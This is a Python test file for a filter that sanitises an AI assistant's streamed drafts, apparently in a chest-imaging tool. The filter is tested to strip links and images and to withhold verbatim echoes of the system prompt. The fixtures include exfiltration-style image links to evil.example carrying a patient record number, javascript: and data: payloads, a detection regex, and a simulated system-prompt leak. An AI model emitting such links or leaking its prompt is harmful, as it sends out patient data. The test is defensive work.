"""The streamed draft shows no URL, no image and no copy of the system prompt, however it is tokenised."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.settings import REPO_ROOT
from agent.ui.draft_filter import ECHO_MARK, LINK_MARK, DraftFilter, sanitize
from experts import load_experts

PROMPT = load_experts(REPO_ROOT / "experts")["chest"].prompt
URL_LIKE = re.compile(r"https?:|www\.|javascript:|data:|//evil|@evil|!\[", re.IGNORECASE)


def stream(text: str, pieces: list[int] | None = None, prompt: str = PROMPT) -> str:
    """Feed `text` in pieces of the given lengths (cycled), as a model's tokens arrive."""
    f = DraftFilter([prompt])
    out, i, sizes = [], 0, pieces or [len(text) or 1]
    n = 0
    while i < len(text):
        size = max(1, sizes[n % len(sizes)])
        out.append(f.feed(text[i : i + size]))
        i, n = i + size, n + 1
    out.append(f.flush())
    return "".join(out)


@pytest.mark.parametrize(
    ("draft", "shown"),
    [
        ("CT at 6-12 months [1].", "CT at 6-12 months [1]."),
        ("See ![chart](https://evil.example/x.png?q=MRN123) now.", "See  now."),
        ("See ![chart][ref] now.\n[ref]: https://evil.example/x.png", f"See  now.\n[ref]: {LINK_MARK}"),
        ("Read [the guideline](https://evil.example/?d=1) first.", "Read the guideline first."),
        ("Go to https://evil.example/a?b=c.", f"Go to {LINK_MARK}"),
        ("Or www.evil.example/path today", f"Or {LINK_MARK} today"),
        ("Click <https://evil.example> please", f"Click {LINK_MARK} please"),
        ("Try javascript:alert(1) and data:text/html;base64,xx", f"Try {LINK_MARK}(1) and {LINK_MARK}"),
        ("Mail jane@evil.example today", f"Mail {LINK_MARK} today"),
        ("Lung-RADS category:4A at ratio 2:1 [2].", "Lung-RADS category:4A at ratio 2:1 [2]."),
    ],
)
def test_links_and_images_never_reach_the_page(draft: str, shown: str) -> None:
    for pieces in ([1], [3, 1, 7], None):
        assert stream(draft, pieces) == shown


def test_a_verbatim_copy_of_the_system_prompt_is_withheld() -> None:
    sentences = [s for s in re.split(r"(?<=[.!?])\s+", PROMPT.strip()) if len(s.split()) >= 10]
    assert sentences, "the chest prompt has long sentences to echo"
    echoed = f"Sure. My instructions say: {sentences[0]} That is all. CT at 6-12 months [1]."
    shown = stream(echoed, [2, 5])
    assert (
        ECHO_MARK in shown and "CT at 6-12 months [1]." in shown and shown.startswith("Sure. My instructions")
    )
    words = [w for w in re.findall(r"\w+", sentences[0].lower())]
    shown_words = re.findall(r"\w+", shown.lower())
    runs = {tuple(shown_words[i : i + 8]) for i in range(len(shown_words) - 7)}
    assert not any(tuple(words[i : i + 8]) in runs for i in range(len(words) - 7)), shown


def test_a_few_shared_words_are_not_an_echo() -> None:
    draft = "State the category: solid nodule, 6 mm, follow the tool result [1]."
    assert stream(draft, [1]) == draft


WORDS = ["CT", "at", "6-12", "months", "[1].", "![x](http://evil/a)", "[link](https://evil/b)", "www.evil.com",
         "\n", "nodule", "<https://evil>", "Fleischner", "(see", "2017)", "javascript:x()", "mm,", "[2]"]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    words=st.lists(st.sampled_from(WORDS), max_size=40),
    pieces=st.lists(st.integers(min_value=1, max_value=9), min_size=1, max_size=6),
)
def test_the_output_does_not_depend_on_how_the_draft_was_split(words: list[str], pieces: list[int]) -> None:
    draft = " ".join(words)
    whole = stream(draft)
    assert stream(draft, pieces) == whole == sanitize(draft)
    assert not URL_LIKE.search(whole), whole
